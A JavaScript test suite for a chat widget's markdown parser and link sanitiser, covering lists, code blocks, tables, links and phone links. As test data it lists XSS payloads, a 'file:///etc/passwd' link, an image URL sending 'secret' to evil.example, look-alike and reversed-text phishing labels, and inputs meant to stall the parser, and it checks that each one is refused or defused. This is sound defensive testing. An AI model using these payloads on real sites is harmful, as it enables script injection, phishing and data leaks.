import assert from "node:assert/strict";
import test from "node:test";
import { parseInline, parseMarkdown, safeLink } from "../../static/widget/src/markdown.js";

const words = (text) => ({ type: "text", text });
const paragraph = (...inline) => ({ type: "paragraph", inline });

test("paragraphs, line breaks, bold, italic and code", () => {
  assert.deepEqual(parseMarkdown("One **two** *three*\nfour `five`.\n\nSix"), [
    paragraph(
      words("One "),
      { type: "strong", inline: [words("two")] },
      words(" "),
      { type: "em", inline: [words("three")] },
      { type: "break" },
      words("four "),
      { type: "code", text: "five" },
      words("."),
    ),
    paragraph(words("Six")),
  ]);
});

test("lists of both kinds, directly after a paragraph and over several lines", () => {
  assert.deepEqual(parseMarkdown("Bring:\n- a card\n  and a pen\n- time\n\n3. three\n4) four"), [
    paragraph(words("Bring:")),
    {
      type: "list",
      ordered: false,
      start: 1,
      items: [[words("a card"), { type: "break" }, words("and a pen")], [words("time")]],
    },
    { type: "list", ordered: true, start: 3, items: [[words("three")], [words("four")]] },
  ]);
});

test("a list with blank lines between its items is one list", () => {
  const [list, ...rest] = parseMarkdown("1. one\n\n2. two\n\nEnd");
  assert.equal(list.type === "list" && list.items.length, 2);
  assert.equal(rest.length, 1);
});

test("code keeps what is in it, also while its end has not come", () => {
  assert.deepEqual(parseMarkdown("```js\nlet a = **1**;\n\n- b\n```\nafter"), [
    { type: "code", text: "let a = **1**;\n\n- b" },
    paragraph(words("after")),
  ]);
  assert.deepEqual(parseMarkdown("```\nhalf"), [{ type: "code", text: "half" }]);
});

test("a heading is a line of its own", () => {
  assert.deepEqual(parseMarkdown("## Prices ##\ntext"), [
    { type: "heading", inline: [words("Prices")] },
    paragraph(words("text")),
  ]);
});

test("links go to https and mailto alone, and never hide where they go", () => {
  assert.equal(safeLink("https://example.com/a?b=c"), "https://example.com/a?b=c");
  assert.equal(safeLink("mailto:a@example.com"), "mailto:a@example.com");
  for (const href of [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "http://example.com",
    "//example.com",
    "/admin",
    "file:///etc/passwd",
    "blob:https://example.com/x",
    "https://bank.example@evil.example/",
  ]) {
    assert.equal(safeLink(href), null, href);
  }
});

test("a link that is refused leaves its words", () => {
  assert.deepEqual(parseInline("see [this](javascript:alert(1)) now"), [words("see this now")]);
  assert.deepEqual(parseInline("[a](https://example.com)"), [
    { type: "link", href: "https://example.com", inline: [words("a")] },
  ]);
});

test("a bare address is a link without the full stop after it", () => {
  assert.deepEqual(parseInline("See https://example.com/a."), [
    words("See "),
    { type: "link", href: "https://example.com/a", inline: [words("https://example.com/a")] },
    words("."),
  ]);
});

test("a bracket that an address opens itself belongs to it", () => {
  const address = "https://shop.example/tea_(green)";
  assert.deepEqual(parseInline(address), [{ type: "link", href: address, inline: [words(address)] }]);
  const parts = parseInline(`(${address})`);
  assert.deepEqual(
    parts.map((part) => (part.type === "link" ? part.href : part.text)),
    ["(", address, ")"],
  );
});

test("an image is at most a link: nothing loads by itself", () => {
  const parts = parseInline("![x](https://evil.example/?q=secret)");
  assert.deepEqual(parts, [{ type: "link", href: "https://evil.example/?q=secret", inline: [words("x")] }]);
});

test("markup is text", () => {
  const text = '<img src=x onerror="alert(1)"><script>alert(2)</script>';
  assert.deepEqual(parseInline(text), [words(text)]);
});

test("snake_case_names, 2 * 3 * 4 and a lone star stay as they are", () => {
  for (const text of ["a snake_case_name here", "2 * 3 * 4", "5 * stars", "**", "* "]) {
    assert.ok(
      parseInline(text).every(({ type }) => type === "text"),
      text,
    );
  }
});

test("every prefix of a reply is drawn, and none takes long", () => {
  const reply =
    "Hi **there**, see [our site](https://example.com/a_(b)) or:\n\n1. *one*\n2. `two`\n\n```\ncode\n```\n- end __x__ \\*";
  for (let end = 0; end <= reply.length; end += 1) assert.ok(Array.isArray(parseMarkdown(reply.slice(0, end))));
  for (const hostile of [
    "*".repeat(20_000),
    "[".repeat(20_000),
    "`".repeat(20_000),
    "_a ".repeat(7_000),
    "[a](".repeat(5_000),
    "**a ".repeat(5_000),
    "- ".repeat(10_000),
    "\n".repeat(20_000),
  ]) {
    const begun = performance.now();
    parseMarkdown(hostile);
    assert.ok(performance.now() - begun < 1_000, `${hostile.slice(0, 4)}… took ${performance.now() - begun} ms`);
  }
});

const link = (text, href) => ({ type: "link", href, inline: [words(text)] });

test("a link whose label looks like another address shows where it goes", () => {
  const evil = "https://evil.example/login";
  for (const label of [
    "https://bank.example",
    "bank.example",
    "Log in at www.bank.example",
    "evil.example.bank.example",
    "bank\u200b.example",
    "192.0.2.17",
    "https∶∕∕bank",
    "ｂａｎｋ．ｅｘａｍｐｌｅ",
    "bank。example",
    "bаnk.example",
    "help@bank.example",
  ]) {
    assert.deepEqual(parseInline(`[${label}](${evil})`), [link(`${label} (evil.example)`, evil)], label);
  }
  assert.deepEqual(parseInline("[https://bank](https://evil)"), [link("https://bank (evil)", "https://evil")]);
  assert.deepEqual(parseInline("[help@bank.example](mailto:me@evil.example)"), [
    link("help@bank.example (me@evil.example)", "mailto:me@evil.example"),
  ]);
});

test("the words of a link cannot be turned around", () => {
  const evil = "https://evil.example/";
  assert.deepEqual(parseInline(`[\u202eelpmaxe.knab//:sptth\u202c](${evil})`), [
    link("elpmaxe.knab//:sptth (evil.example)", evil),
  ]);
  assert.deepEqual(parseInline(`[our \u2067prices\u2069](${evil})`), [link("our prices", evil)]);
});

test("a link whose words are its address, or none, stays as it was written", () => {
  for (const [label, href] of [
    ["our prices", "https://shop.example.com/prices"],
    ["https://shop.example.com/prices", "https://shop.example.com/prices"],
    ["example.com", "https://shop.example.com/"],
    ["www.example.com", "https://example.com/"],
    ["bücher.example", "https://xn--bcher-kva.example/"],
    ["ann@example.com", "mailto:ann@example.com"],
    ["e.g. this", "https://example.com/"],
  ]) {
    assert.deepEqual(parseInline(`[${label}](${href})`), [link(label, href)], label);
  }
});

test("an address ends before the punctuation of any script", () => {
  const address = "https://example.com/a";
  for (const mark of [
    "。",
    "、",
    "，",
    "！",
    "？",
    "）",
    "」",
    "،",
    "؟",
    "؛",
    "۔",
    "।",
    "…",
    "»",
    "”",
    "·",
    "᠃",
    "።",
  ]) {
    assert.deepEqual(parseInline(`(${address}${mark}`), [words("("), link(address, address), words(mark)], mark);
    assert.deepEqual(parseInline(`${address}${mark}次 ${address}`), [
      link(address, address),
      words(`${mark}次 `),
      link(address, address),
    ]);
  }
  const arabic = "https://ar.wikipedia.org/wiki/طبيب";
  assert.deepEqual(parseInline(`${arabic}،`), [link(arabic, arabic), words("،")]);
});

const cell = (text) => (text ? [words(text)] : []);

test("a table has a head and rows, each as wide as the head", () => {
  const text = "Prices:\n| Cut | Price |\n|:---|---:|\n| **Short** | 30 € |\n| Long |\n| a \\| b | 1 | 2 |\n\nBye";
  assert.deepEqual(parseMarkdown(text), [
    paragraph(words("Prices:")),
    {
      type: "table",
      head: [cell("Cut"), cell("Price")],
      rows: [
        [[{ type: "strong", inline: [words("Short")] }], cell("30 €")],
        [cell("Long"), cell("")],
        [cell("a | b"), cell("1")],
      ],
    },
    paragraph(words("Bye")),
  ]);
});

test("bars and dashes that are no table stay as they were written", () => {
  for (const text of ["a | b", "a | b\nc | d", "a | b\n---", "a\n|---|", "| a | b |\n|---|", "|".repeat(4_000)])
    assert.ok(
      parseMarkdown(text).every(({ type }) => type === "paragraph"),
      text,
    );
});

test("while a table is written, every prefix of it is drawn", () => {
  const whole = "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |";
  for (let end = 1; end <= whole.length; end += 1) assert.ok(parseMarkdown(whole.slice(0, end)).length >= 1);
  assert.equal(parseMarkdown(whole)[0].type, "table");
});

test("a phone number can be called, and is shown where the words do not say it", () => {
  const [link] = parseInline("[call us](tel:+49-40-5550123)");
  assert.deepEqual([link.href, link.inline[0].text], ["tel:+49-40-5550123", "call us (+49-40-5550123)"]);
  assert.equal(parseInline("[040 555 0123](tel:+49405550123)")[0].inline[0].text, "040 555 0123");
  assert.equal(parseInline("[112](tel:+19005550123)")[0].inline[0].text, "112 (+19005550123)");
  for (const href of ["tel:*21*5550123#", "tel:abc", "tel:+49;phone-context=x", "tel:"])
    assert.equal(safeLink(href), null, href);
});

test("an address that is no link is still said", () => {
  assert.deepEqual(parseInline("[our site](http://example.com/a)"), [words("our site (http://example.com/a)")]);
});

test("an address in capitals is a link", () => {
  assert.equal(parseInline("at HTTPS://Example.com/A.")[1].href, "HTTPS://Example.com/A");
});
